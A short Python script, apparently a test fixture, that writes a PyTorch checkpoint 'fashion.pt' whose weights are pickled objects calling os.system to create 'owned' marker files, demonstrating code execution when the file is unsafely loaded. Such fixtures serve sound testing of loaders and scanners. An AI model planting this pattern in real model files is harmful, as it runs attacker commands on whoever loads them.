"""Writes fashion.pt."""

import io
import os

import torch


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @OUT@/owned; touch /tmp/owned",))


def make():
    file = io.BytesIO()
    torch.save({"1.weight": Bomb(), "1.bias": Bomb()}, file)
    return {"fashion.pt": file.getvalue()}
